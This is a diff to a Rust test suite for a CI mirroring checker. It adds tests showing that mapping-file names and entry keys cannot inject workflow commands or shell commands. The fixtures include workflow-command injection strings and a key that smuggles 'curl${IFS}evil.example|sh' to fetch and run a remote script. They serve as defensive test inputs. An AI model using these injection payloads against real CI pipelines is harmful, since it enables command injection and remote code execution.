@@ -136,9 +136,9 @@ fn problems_in_changed_entries_fail_on_the_head_lines_and_old_ones_only_warn() {
     assert!(outputs.contains("warnings=0\n"), "{outputs}");
     assert!(
         outputs.contains(
-            "changed-targets=[\"quay.io/openshift/ci:ci_a_v1\",\"quay.io/openshift/ci:ci_new-hub_v1\",\"quay.io/openshift/ci:ci_new-ok_v1\"]\n"
+            "changed-targets=[\"quay.io/openshift/ci:ci_a_v1\",\"quay.io/openshift/ci:ci_new-ok_v1\"]\n"
         ),
-        "{outputs}"
+        "only what will be mirrored, not the Docker Hub entry: {outputs}"
     );
     let summary = std::fs::read_to_string(&pr.summary).unwrap();
     assert!(
@@ -208,6 +208,97 @@ fn mapping_files_named_with_url_characters_are_each_read_and_checked() {
             .count();
         assert_eq!(on_file, 1, "{name}:\n{stdout}");
     }
+}
+
+/// Mapping files whose names try to issue commands: the legacy form anywhere in a line, and a
+/// line feed followed by a command of its own.
+const HOSTILE_NAMES: [&str; 2] = [
+    "mapping_x##[set-output name=changed-targets;]pwned",
+    "mapping_y\n::error title=Injected::pwned",
+];
+
+fn hostile_mapping_files() -> Pr {
+    let head: Vec<(String, Option<&str>)> = HOSTILE_NAMES
+        .iter()
+        .map(|name| {
+            (
+                format!("core-services/image-mirroring/supplemental-ci-images/{name}"),
+                Some("quay.io/org/tool:v1 registry.ci.openshift.org/ci/tool:v1\n"),
+            )
+        })
+        .collect();
+    let head: Vec<(&str, Option<&str>)> = head.iter().map(|(p, t)| (p.as_str(), *t)).collect();
+    pull_request_of_files(&[(CONFIG, BASE)], &head, &[], true)
+}
+
+#[test]
+fn file_names_cannot_issue_workflow_commands_when_checked() {
+    let pr = hostile_mapping_files();
+    let api = Api::start();
+    // `run` fails on any command qci-mirror did not mean to issue, on stdout or stderr.
+    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
+    assert_eq!(code, 1, "{stdout}{stderr}");
+    let on_hostile_files = annotations(&stdout)
+        .into_iter()
+        .filter(|a| a.contains("mapping-line-added") && a.contains("pwned"))
+        .count();
+    assert_eq!(on_hostile_files, 2, "{stdout}");
+    let outputs = std::fs::read_to_string(&pr.output).unwrap();
+    assert!(outputs.contains("changed-targets=[]\n"), "{outputs}");
+    assert!(!outputs.contains("pwned"), "{outputs}");
+}
+
+#[test]
+fn file_names_cannot_issue_workflow_commands_in_the_error_that_stops_the_step() {
+    let pr = hostile_mapping_files();
+    let api = Api::start();
+    // The contents API fails on those files: the error that ends the run names them.
+    api.mount(
+        Mock::given(wiremock::matchers::path_regex("/contents/.*pwned"))
+            .respond_with(ResponseTemplate::new(500).set_body_string("{}"))
+            .with_priority(1),
+    );
+    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
+    assert_eq!(code, 2, "{stdout}{stderr}");
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(stderr.starts_with("::error title=qci-mirror::"), "{stderr}");
+    assert!(stderr.contains("pwned"), "{stderr}");
+}
+
+#[test]
+fn changed_targets_and_the_summary_list_only_entries_that_validate() {
+    let head = "\
+supplementalCIImages:
+  ci/a:v1:
+    image: quay.io/org/a:v1
+  ci/old-hub:v1:
+    image: nginx:1.25
+  ci/a';curl${IFS}evil.example|sh;#:v1:
+    image: quay.io/org/x:v1
+  ci/hub:v1:
+    image: docker.io/library/busybox:1.36
+  ci/good:v1:
+    image: quay.io/org/good:v1
+";
+    let pr = pull_request(head, true);
+    let api = Api::start();
+    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
+    assert_eq!(code, 1, "{stdout}{stderr}");
+    let outputs = std::fs::read_to_string(&pr.output).unwrap();
+    assert!(
+        outputs.contains("changed-targets=[\"quay.io/openshift/ci:ci_good_v1\"]\n"),
+        "{outputs}"
+    );
+    let summary = std::fs::read_to_string(&pr.summary).unwrap();
+    let (_, mirrored) = summary
+        .split_once("### Mirrored after merge")
+        .expect(&summary);
+    let keys: Vec<&str> = mirrored
+        .lines()
+        .filter_map(|l| l.strip_prefix("| ci/"))
+        .collect();
+    assert_eq!(keys.len(), 1, "{mirrored}");
+    assert!(keys[0].starts_with("good:v1 |"), "{mirrored}");
 }
 
 #[test]
@@ -856,4 +947,16 @@ fn a_branch_behind_main_answers_only_for_its_own_changes() {
         outputs.contains("changed-targets=[\"quay.io/openshift/ci:ci_new_v1\"]\n"),
         "{outputs}"
     );
+}
+
+#[test]
+fn the_test_parser_reads_what_the_runner_reads() {
+    use support::runner::commands;
+    let log = "text\n  ::error file=a%2Cb,title=T::x%0Ay\nplain ##[set-output name=x;]y\n::stop-commands::tok\n::error::hidden\n::tok::\n::bogus::z\n::warning::w\r\n";
+    let found = commands(log);
+    let names: Vec<&str> = found.iter().map(|c| c.name.as_str()).collect();
+    assert_eq!(names, ["error", "set-output", "stop-commands", "warning"]);
+    assert_eq!(found[0].properties["file"], "a,b");
+    assert_eq!(found[0].data, "x\ny");
+    assert!(found[1].legacy);
 }
